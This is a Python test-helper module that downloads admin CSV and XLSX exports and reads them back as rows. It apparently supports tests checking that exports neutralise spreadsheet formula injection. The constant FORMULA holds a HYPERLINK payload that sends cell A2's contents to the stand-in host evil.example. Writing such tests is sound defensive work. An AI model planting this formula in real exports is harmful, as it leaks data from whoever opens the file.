"""Download an admin export the way staff do and read it back as rows of
{heading: cell}, with the csv module and openpyxl."""

import csv
import io

import openpyxl

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
NEUTRALISED_FORMULA = "'" + FORMULA


def downloaded(client, url, spreadsheet_format, **params):
    response = client.get(url, {**params, "export": spreadsheet_format})
    assert response.status_code == 200, response.status_code
    assert "attachment" in response["Content-Disposition"]
    if response.streaming:
        return b"".join(response.streaming_content)
    return b"".join(response)


def csv_rows(client, url, **params):
    text = downloaded(client, url, "csv", **params).decode()
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(client, url, **params):
    """Rows of {heading: openpyxl cell}, so a test can check a cell's value and type."""
    workbook = openpyxl.load_workbook(io.BytesIO(downloaded(client, url, "xlsx", **params)))
    headings, *rows = workbook.active.iter_rows()
    return [{heading.value: cell for heading, cell in zip(headings, row, strict=True)} for row in rows]


def row_for(rows, reference):
    """The row whose Reference cell is `reference` (rows from csv_rows or xlsx_rows)."""
    for row in rows:
        value = row["Reference"]
        if getattr(value, "value", value) == reference:
            return row
    raise AssertionError(f"{reference} is not in the export")
